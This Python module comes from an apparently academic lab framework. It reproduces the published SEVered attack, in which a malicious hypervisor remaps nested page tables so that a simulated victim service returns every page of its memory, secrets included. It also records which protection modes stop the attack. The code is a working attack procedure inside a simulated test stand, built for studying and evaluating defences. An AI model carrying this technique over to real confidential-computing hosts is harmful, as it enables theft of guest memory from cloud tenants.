"""E5, A6, A7: the hypervisor chooses which page the victim's service reads."""

from __future__ import annotations

from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.guest import HLT, NPF, SECRET, SHARED, VIEW, Program
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Field, Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Stand
from cbit.attacks.lab.tools import Thwarted, gpa_of
from cbit.attacks.power import Power
from cbit.cpu.engine.control_block import Exit
from cbit.spec.address import PAGE

FIRST, SECOND, ELSEWHERE = 0x33000, 0x37000, 0x155000
_FETCH, _WALK = 1 << 4, 1 << 33

#: Answers a request's first byte, 0 or 1, with one of two public pages; it never serves anything else.
SERVER = f"""
    mov rdi, {FIRST:#x}
    mov ecx, 512
    movabs rax, 0x2063696c627570       # "public "
    rep stosq
    mov rdi, {SECOND:#x}
    mov ecx, 512
    not rax
    rep stosq
    mov rsi, {SECRET:#x}               # the secret goes where only the victim knows
    mov rdi, {ELSEWHERE + 0x123:#x}
    mov ecx, 8
    rep movsq
    mov rdi, {SECRET:#x}
    xor eax, eax
    mov ecx, 8
    rep stosq
again:
    hlt
    mov rsi, {FIRST:#x}
    mov rax, {SECOND:#x}
    cmp byte ptr [{VIEW + SHARED + 8:#x}], 0
    cmovne rsi, rax
    mov rdi, {VIEW + SHARED + PAGE:#x}
    mov ecx, 512
    rep movsq
    jmp again
"""


def server(stand: Stand) -> Scene:
    """Start a server of two public pages that keeps a secret elsewhere in its memory."""
    secret = stand.entropy.draw(64)
    guest = stand.guest(Program(SERVER), secret=secret)
    guest.until_idle()
    planted, targets = guest.peek(ELSEWHERE + 0x123, 64) == secret, guest
    if stand.variant == "other-guest":
        secret = stand.entropy.draw(64)
        targets = stand.guest(Program(SERVER), secret=secret)
        targets.until_idle()
        planted = targets.peek(ELSEWHERE + 0x123, 64) == secret
    pages = tuple(targets.spa(gpa) for gpa in range(0, guest.program.size, PAGE))
    return Scene((secret,), Facts({"targets": pages, "shared": SHARED}), guest, planted=planted)


def _touched(hands: Hands, request: bytes, log: Log) -> set[int]:
    """Which pages the victim reads or writes as data for one request."""
    touched: set[int] = set()

    def note(exit: Exit) -> bool:
        code, info, address = exit.code, exit.info_1, exit.info_2
        if code != NPF:
            return False
        gpa = gpa_of(address) & -PAGE
        if not info & (_FETCH | _WALK):
            touched.add(gpa)
        hands.tables.home(gpa)
        return True

    hands.tables.unmap(*hands.tables.pages())
    hands.client.put(request)
    hands.victim.until(HLT, handle=note)
    hands.victim.skip(1)
    log.step(
        f"request {request[0]}: data faults on {', '.join(f'{gpa:#x}' for gpa in sorted(touched))}",
        picture=_map(hands.tables.pages(), touched),
    )
    return touched


def _map(pages: list[int], touched: set[int]) -> Field:
    return Field(64, bytes(255 if gpa in touched else 40 for gpa in pages))


@attack(
    title="SEVered: a service made to serve all of memory",
    experiment="E5",
    paper="Morbitzer et al., EuroSec 2018 (attacks.md A6), CODASPY 2019 (A7)",
    holds={Power.EDIT_NESTED_TABLES, Power.TAKE_EXITS, Power.CLIENT},
    expect={
        Mode.NONE: SUCCEEDS,
        Mode.SME: SUCCEEDS,
        Mode.SEV: succeeds("the key says whose memory it is, not which page of it"),
        Mode.SEV_ES: SUCCEEDS,
        Mode.SEV_SNP: stopped_by("the RMP entry of the page names another guest address"),
    },
    defences={"other-guest": "another guest's key: its pages are served as garbage"},
    victim=server,
)
def severed(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Find the page that a service serves, then let the nested tables put every other page in its place.

    1. Unmap everything, request a public page, note which pages fault as data; likewise another public page.
       What is touched for the first alone is the first.
    2. Map the guest address of that page onto each page of the victim's memory in turn, and request it again.
       The ciphertext stays where it lies, so the tweak is right; the key is the victim's, so it decrypts.

    The victim's own code reads the page and sends it out.
    """
    first, second = _touched(hands, b"\0", log), _touched(hands, b"\1", log)
    served = sorted(first - second)
    if len(served) != 1:
        raise Thwarted(f"{len(served)} pages could be the one that is served")
    log.step(f"the served page is {served[0]:#x}")
    loot, targets = bytearray(), facts.numbers("targets")
    own_page = hands.tables.pages().index(facts.number("shared"))
    for index, spa in enumerate(targets):
        if index == own_page:
            continue  # the request itself
        hands.tables.map(served[0], spa)
        loot += hands.client.ask(b"\0", PAGE)
    hands.tables.home(served[0])
    pages = len(targets) - 1
    log.step(f"{pages} requests, one page of the victim's memory each", bytes(loot[-PAGE:]))
    log.figure(
        "share of the victim's private memory extracted",
        100 * len(loot) / (pages * PAGE),
        "%",
        published="all of it (2 GB)",
        source="SEVered (attacks.md A6, from memory)",
    )
    log.figure("bytes for each request", len(loot) / pages, "bytes", published="the size of the resource")
    return bytes(loot)
